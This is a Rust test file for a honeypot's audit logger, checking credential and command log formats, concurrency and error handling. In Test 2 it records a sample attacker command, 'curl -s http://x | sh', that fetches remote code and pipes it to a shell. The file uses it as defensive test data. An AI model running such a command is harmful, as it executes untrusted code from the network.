use honeypy::audit::events::AuditEvent;
use honeypy::audit::{AuditLogger, COMMANDS_LOG, CREDENTIALS_LOG};
use std::net::SocketAddr;
use std::sync::Arc;

fn peer() -> SocketAddr {
    "203.0.113.77:51515".parse().unwrap()
}

// ---------------------------------------------------------------------------
// Test 1: credential line has the documented JSON shape
// ---------------------------------------------------------------------------
#[tokio::test]
async fn credential_line_shape() {
    let dir = tempfile::tempdir().unwrap();
    let audit = AuditLogger::new(dir.path(), 100_000, 5);
    audit
        .log_credential_attempt("root", "p@ss w0rd\"", &peer(), "deadbeef")
        .await
        .unwrap();

    let content = std::fs::read_to_string(dir.path().join(CREDENTIALS_LOG)).unwrap();
    let value: serde_json::Value = serde_json::from_str(content.trim_end()).unwrap();
    assert_eq!(value["event_type"], "auth.attempt");
    assert_eq!(value["username"], "root");
    assert_eq!(value["password"], "p@ss w0rd\"");
    assert_eq!(value["source_ip"], "203.0.113.77");
    assert_eq!(value["correlation_id"], "deadbeef");
    assert!(value["timestamp"].as_str().unwrap().contains('T'));
}

// ---------------------------------------------------------------------------
// Test 2: command line has the documented JSON shape
// ---------------------------------------------------------------------------
#[tokio::test]
async fn command_line_shape() {
    let dir = tempfile::tempdir().unwrap();
    let audit = AuditLogger::new(dir.path(), 100_000, 5);
    audit
        .log_command("curl -s http://x | sh", &peer(), "deadbeef")
        .await
        .unwrap();

    let content = std::fs::read_to_string(dir.path().join(COMMANDS_LOG)).unwrap();
    let value: serde_json::Value = serde_json::from_str(content.trim_end()).unwrap();
    assert_eq!(value["event_type"], "shell.command");
    assert_eq!(value["command"], "curl -s http://x | sh");
    assert_eq!(value["source_ip"], "203.0.113.77");
    assert!(value.get("password").is_none());
}

// ---------------------------------------------------------------------------
// Test 3: lines round-trip through serde
// ---------------------------------------------------------------------------
#[tokio::test]
async fn lines_deserialize_back_to_events() {
    let dir = tempfile::tempdir().unwrap();
    let audit = AuditLogger::new(dir.path(), 100_000, 5);
    audit
        .log_credential_attempt("oracle", "oracle", &peer(), "c0ffee00")
        .await
        .unwrap();

    let content = std::fs::read_to_string(dir.path().join(CREDENTIALS_LOG)).unwrap();
    let event: AuditEvent = serde_json::from_str(content.trim_end()).unwrap();
    assert_eq!(event, audit.get_recent_events(1)[0]);
}

// ---------------------------------------------------------------------------
// Test 4: concurrent writers never interleave lines
// ---------------------------------------------------------------------------
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_writes_stay_line_atomic() {
    let dir = tempfile::tempdir().unwrap();
    let audit = Arc::new(AuditLogger::new(dir.path(), 0, 0));

    let mut tasks = Vec::new();
    for t in 0..8 {
        let audit = audit.clone();
        tasks.push(tokio::spawn(async move {
            for i in 0..50 {
                audit
                    .log_command(&format!("task{t}-cmd{i}-{}", "x".repeat(200)), &peer(), "cc")
                    .await
                    .unwrap();
            }
        }));
    }
    for task in tasks {
        task.await.unwrap();
    }

    let content = std::fs::read_to_string(dir.path().join(COMMANDS_LOG)).unwrap();
    let lines: Vec<&str> = content.lines().collect();
    assert_eq!(lines.len(), 400);
    for line in lines {
        let value: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(value["event_type"], "shell.command");
    }
}

// ---------------------------------------------------------------------------
// Test 5: audit directory is created on first write
// ---------------------------------------------------------------------------
#[tokio::test]
async fn creates_missing_directory() {
    let dir = tempfile::tempdir().unwrap();
    let nested = dir.path().join("var").join("honeypy");
    let audit = AuditLogger::new(&nested, 100_000, 5);
    assert!(!nested.exists());

    audit.log_command("id", &peer(), "c1").await.unwrap();
    assert!(nested.join(COMMANDS_LOG).exists());
    assert_eq!(audit.commands_path(), Some(nested.join(COMMANDS_LOG).as_path()));
}

// ---------------------------------------------------------------------------
// Test 6: unwritable sink reports an error but keeps the event in memory
// ---------------------------------------------------------------------------
#[tokio::test]
async fn write_failure_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let blocker = dir.path().join("not_a_dir");
    std::fs::write(&blocker, "file in the way").unwrap();
    let audit = AuditLogger::new(&blocker, 100_000, 5);

    let result = audit.log_command("ls", &peer(), "c1").await;
    assert!(result.is_err());
    assert_eq!(audit.get_recent_events(10).len(), 1);
}
